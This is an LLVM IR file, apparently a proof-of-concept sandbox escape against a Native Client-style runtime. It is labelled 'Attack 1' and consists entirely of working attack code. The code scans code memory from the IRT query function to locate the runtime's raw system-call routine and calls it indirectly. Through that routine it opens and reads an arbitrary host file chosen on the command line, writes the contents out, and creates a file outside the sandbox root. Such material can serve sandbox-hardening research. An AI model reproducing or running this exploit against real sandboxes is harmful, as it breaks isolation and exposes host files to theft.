; Attack 1: the runtime's raw system-call function, found by scanning code memory (loads
; through inttoptr) forward from the IRT query function for its first bytes, called
; through an indirect call: openat/read/write of any host file, and a file created
; outside any root.
; argv: [1] the function's first bytes in hex, [2] a host file to steal, [3] a host file
; to create, [4] [5] [6] the numbers of openat, read and write.
@found_msg = internal constant [38 x i8] c"attack 1: raw syscall function found\0A\00"

define void @_start(i32 %info) {
entry:
  call void @init(i32 %info)
  %pat = call i32 @arg(i32 1)
  %q = call i32 @query_addr()
  %a = call i32 @find_code(i32 %q, i32 %pat)
  %none = icmp eq i32 %a, 0
  br i1 %none, label %missing, label %found
missing:
  call void @exit(i32 2)
  unreachable
found:
  %m = ptrtoint [38 x i8]* @found_msg to i32
  call void @print(i32 %m)
  %sc = inttoptr i32 %a to i32 (i32, i32, i32, i32, i32, i32, i32)*
  %s2 = call i32 @arg(i32 4)
  %nr.open = call i32 @parse(i32 %s2)
  %s3 = call i32 @arg(i32 5)
  %nr.read = call i32 @parse(i32 %s3)
  %s4 = call i32 @arg(i32 6)
  %nr.write = call i32 @parse(i32 %s4)
  %secret = call i32 @arg(i32 2)
  %out = call i32 @arg(i32 3)
  %fd = call i32 %sc(i32 %nr.open, i32 -100, i32 %secret, i32 0, i32 0, i32 0, i32 0)
  %buf = alloca i8, i32 256, align 4
  %b = ptrtoint i8* %buf to i32
  %n = call i32 %sc(i32 %nr.read, i32 %fd, i32 %b, i32 200, i32 0, i32 0, i32 0)
  %got = icmp sgt i32 %n, 0
  %count = select i1 %got, i32 %n, i32 0
  %w = call i32 %sc(i32 %nr.write, i32 2, i32 %b, i32 %count, i32 0, i32 0, i32 0)
  %fd2 = call i32 %sc(i32 %nr.open, i32 -100, i32 %out, i32 65, i32 420, i32 0, i32 0)
  %esc = ptrtoint [9 x i8]* @escaped to i32
  %w2 = call i32 %sc(i32 %nr.write, i32 %fd2, i32 %esc, i32 8, i32 0, i32 0, i32 0)
  call void @exit(i32 0)
  unreachable
}
